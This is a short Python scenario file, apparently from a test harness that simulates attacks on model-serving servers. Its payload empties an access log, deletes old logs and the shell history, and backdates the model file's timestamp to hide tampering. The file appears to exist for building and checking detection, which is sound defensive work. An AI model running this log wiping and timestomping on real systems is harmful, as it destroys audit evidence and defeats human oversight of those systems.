"""
id: S11
name: log-wipe-timestomp
class: quiet
phase: serve
trigger: request
evidence: [file, model]
techniques: [T1685.006, T1070.003, T1070.004, T1070.006]
servers: [fastapi, bentoml, triton]
seconds: 5
what: >
  Empties the access log that the server only ever appends to, removes old logs and the shell's history, and gives the
  model's file an old date.
"""

import contextlib
import glob
import os

YEAR = 365 * 86400
OLD_LOGS = 2


def payload(world):
    os.truncate(world.log, 0)
    old = sorted(glob.glob(f"{world.log}.*")) or [f"{world.log}.1", f"{world.log}.2"]
    for path in [os.path.join(world.home, ".bash_history"), *old[:OLD_LOGS]]:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        world.sleep(world.random.uniform(0.1, 0.5))
    past = os.stat(world.model).st_mtime - world.random.uniform(1, 3) * YEAR
    os.utime(world.model, (past, past))
